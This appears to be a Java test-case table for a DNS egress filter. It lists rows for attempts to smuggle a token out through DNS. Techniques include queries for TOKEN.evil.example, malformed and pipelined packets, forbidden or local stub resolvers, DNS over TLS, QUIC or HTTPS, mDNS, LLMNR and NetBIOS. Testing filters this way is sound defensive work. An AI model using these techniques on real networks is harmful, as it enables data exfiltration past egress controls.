package dev.postern.bypass;

import static dev.postern.bypass.Family.MAPPED;
import static dev.postern.bypass.Family.V4;
import static dev.postern.bypass.Family.V6;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;

/** Questions that must not be asked, or not there: with them data leaves, and answers come. */
final class QuestionRows {

  private static final List<String> WAYS =
      List.of("udp-connected", "udp-sendto", "udp-sendmsg", "tcp", "tcp-fast-open");

  private QuestionRows() {}

  static List<Row> all() {
    List<Row> rows = new ArrayList<>();
    rows.addAll(forbiddenNames());
    rows.addAll(besidesAnAllowedName());
    rows.addAll(otherResolvers());
    rows.addAll(stubs());
    rows.addAll(otherProtocols());
    return rows;
  }

  private static Row ask(String name, String threats, Family family, String... arguments) {
    String[] command =
        Stream.concat(Stream.of("ask-name.py"), Arrays.stream(arguments)).toArray(String[]::new);
    return Row.of("question, " + name, threats, family, command).ofNames();
  }

  private static List<Row> forbiddenNames() {
    List<Row> rows = new ArrayList<>();
    for (String way : WAYS) {
      rows.add(plain(way + ", forbidden name", "D03", way, "A", "TOKEN.evil.example"));
    }
    for (String type :
        List.of("AAAA", "TXT", "NULL", "CNAME", "NS", "PTR", "SRV", "HTTPS", "ANY", "AXFR")) {
      rows.add(plain("type " + type, "D03", "udp-sendto", type, "TOKEN.evil.example"));
    }
    rows.add(plain("below an allowed name", "D03", "udp-sendto", "TXT", "TOKEN.api.example"));
    rows.add(plain("below a wildcard", "D03", "udp-sendto", "TXT", "TOKEN.cdn.example"));
    rows.add(ask("long labels", "D03", V4, "spread", "{resolver}", "3", "TOKEN.LONG.evil.example"));
    rows.add(plain("name that only ends alike", "N09", "tcp", "A", "TOKENcdn.example"));
    rows.add(plain("allowed name in front", "N09", "tcp", "A", "a.cdn.example.TOKEN.example"));
    rows.add(plain("dot inside a label", "N09", "udp-sendto", "A", "TOKEN~cdn.example"));
    rows.add(plain("dots inside one label", "N09", "udp-sendto", "A", "TOKEN~cdn~example"));
    rows.add(plain("search list", "D08", "udp-sendto", "A", "api.example.TOKEN.cluster.local"));
    return rows;
  }

  private static Row plain(String name, String threats, String way, String type, String host) {
    return ask(name, threats, V4, "plain", way, "{resolver}", type, host);
  }

  private static List<Row> besidesAnAllowedName() {
    List<Row> rows = new ArrayList<>();
    for (String variant : List.of("one-segment", "split-length", "bytewise", "forbidden-first")) {
      rows.add(
          ask(
              "pipelined, " + variant,
              "D01",
              V4,
              "pipelined",
              variant,
              "{resolver}",
              "TOKEN.evil.example"));
    }
    for (String variant :
        List.of(
            "two-questions",
            "bytes-behind",
            "option",
            "additional",
            "authority",
            "update",
            "notify",
            "response",
            "pointer",
            "pointer-behind",
            "no-dns")) {
      for (String way : List.of("udp-sendto", "tcp")) {
        rows.add(
            ask(
                variant + ", " + way,
                "D03",
                V4,
                "odd",
                way,
                "{resolver}",
                variant,
                "TOKEN.evil.example"));
      }
    }
    return rows;
  }

  /** The allowed name here: only whom it is asked of is wrong. */
  private static List<Row> otherResolvers() {
    List<Row> rows = new ArrayList<>();
    for (Family family : Family.values()) {
      for (String way : WAYS) {
        if (family == V4 || !way.equals("tcp-fast-open")) {
          rows.add(
              ask(
                  way + ", another resolver",
                  "D02",
                  family,
                  "plain",
                  way,
                  "FORBIDDEN",
                  "A",
                  "api.example"));
        }
      }
    }
    rows.add(
        ask(
            "two resolvers by one socket",
            "D02",
            V4,
            "to-two",
            "{resolver}",
            "FORBIDDEN",
            "api.example"));
    for (String way : List.of("udp", "tcp")) {
      rows.add(
          ask("older than the policy: " + way, "D02", V4, "older", way, "FORBIDDEN", "api.example")
              .at(Stage.BEGUN_BEFORE));
    }
    rows.add(
        ask(
                "older than the policy: udp, the same resolver",
                "D02",
                V4,
                "older",
                "udp",
                "{resolver}",
                "TOKEN.evil.example")
            .at(Stage.BEGUN_BEFORE));
    rows.add(
        ask(
            "no DNS to port 53, another resolver",
            "D02",
            V4,
            "odd",
            "tcp",
            "FORBIDDEN",
            "no-dns",
            "TOKEN.evil.example"));
    return rows;
  }

  /** What answers on the machine's own addresses may ask whomever it likes. */
  private static List<Row> stubs() {
    List<Row> rows = new ArrayList<>();
    for (String address :
        List.of("127.0.0.53", "::1", BypassNetwork.INSIDE_V4, BypassNetwork.INSIDE_V6)) {
      for (String way : List.of("udp-connected", "udp-sendto", "tcp")) {
        rows.add(
            ask(
                    way + ", stub at " + address,
                    "D02",
                    V4,
                    "plain",
                    way,
                    address,
                    "A",
                    "TOKEN.evil.example")
                .at(Stage.helped("stub-resolver.py", address, "{resolver}")));
      }
    }
    return rows;
  }

  private static List<Row> otherProtocols() {
    return List.of(
        ask("DNS over TLS", "D02", V4, "other-port", "tcp", "FORBIDDEN", "853"),
        ask("DNS over TLS", "D02", V6, "other-port", "tcp", "FORBIDDEN", "853"),
        ask("DNS over TLS", "D02", MAPPED, "other-port", "tcp", "FORBIDDEN", "853"),
        ask("DNS over TLS, own resolver", "D02", V4, "other-port", "tcp", "{resolver}", "853"),
        ask("DNS over QUIC", "D02", V4, "other-port", "udp", "FORBIDDEN", "853"),
        ask("DNS over HTTPS", "D02", V4, "other-port", "tcp", "FORBIDDEN", "443"),
        ask("DNS over HTTP/3", "D02", V4, "other-port", "udp", "FORBIDDEN", "443"),
        ask("multicast DNS", "D08", V4, "other-port", "udp", "224.0.0.251", "5353"),
        ask("LLMNR", "D08", V4, "other-port", "udp", "224.0.0.252", "5355"),
        ask("NetBIOS names", "D08", V4, "other-port", "udp", "FORBIDDEN", "137"));
  }
}
